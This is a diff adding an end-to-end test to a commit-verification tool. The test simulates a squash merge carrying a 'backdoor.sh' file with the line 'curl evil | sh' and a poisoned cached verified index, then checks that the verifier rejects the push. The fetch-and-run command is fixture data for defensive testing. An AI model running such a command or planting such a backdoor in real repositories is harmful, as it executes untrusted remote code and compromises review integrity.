@@ -4,9 +4,11 @@
 // entry. Honest squash and rebase (git rebase, empty commits kept) landings must still pass, reported
 // per commit by patch id. Real repositories, real pushes through the pre-push hook, `verify --json`.
 import { expect } from 'chai';
-import { rmSync, writeFileSync } from 'node:fs';
+import { cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { authorWorkstream, ceremony, must, parseJson, show, useTempDirs, type Ceremony, type Workstream } from '../helpers/gitrepo.js';
+import { writeIndexFiles } from '../../src/mirror/view.js';
+import type { ChainResult } from '../../src/mirror/chain.js';
 
 async function replayCeremony(): Promise<Ceremony> {
   const c = await ceremony({ push: false });
@@ -65,6 +67,34 @@ describe('e2e: rewrites: replay binds to reviewed content', function () {
     expect(text.stdout + text.stderr).to.match(/squash of ws-sq \(entry \d+\) covered by rewrites: replay/);
     const r = await c.gr(['push', 'origin', 'main']);
     expect(r.code, show(r)).to.equal(0);
+  });
+
+  it('a squash resting on an entry the verified index misstates is judged on the mirror\'s bytes (a restored cache cannot cover a backdoor)', async () => {
+    // the attacker's "attested head": the landed entry's base plus a backdoor
+    await c.g(['checkout', '-q', '-b', 'evil', sq.base]);
+    const x = await c.commit('backdoor.sh', 'curl evil | sh\n', 'tweak');
+    await c.g(['checkout', '-q', 'main']);
+    await c.g(['merge', '-q', '--squash', 'evil']);
+    await c.g(['commit', '-q', '--no-verify', '-m', 'Squashed ws-sq (follow-up)']);
+    const squash = await c.rev('HEAD');
+    // .git/csae restored from a poisoned cache: ws-sq's entry now claims the backdoor as its head
+    const state = join(c.work, '.git', 'csae');
+    const kept = join(c.root, 'csae-state-kept');
+    cpSync(state, kept, { recursive: true });
+    const idx = JSON.parse(readFileSync(join(state, 'verified-index.json'), 'utf8'));
+    const head = JSON.parse(readFileSync(join(state, 'index-head.json'), 'utf8'));
+    const e = idx.state.entries.find((x: any) => x.predicate.workstream === 'ws-sq');
+    e.predicate.range.head = x;
+    e.predicate.range.commits = [x];
+    writeFileSync(join(state, 'verified-index.json'), JSON.stringify(idx));
+    writeIndexFiles(state, head.key, { ...idx.state, problems: [], intact: true } as ChainResult);
+    const { code, report } = await verifyPending(c);
+    expect(code, JSON.stringify(report)).to.equal(1);
+    expect(report.refs[0].landings ?? []).to.deep.equal([]);
+    expect(Object.keys(codes(report))).to.deep.equal([squash]);
+    await c.g(['branch', '-q', '-D', 'evil']);
+    rmSync(state, { recursive: true, force: true });
+    cpSync(kept, state, { recursive: true });
   });
 
   it('refuses a net-zero run naming a landed workstream ("add backdoor.sh", then "remove it")', async () => {
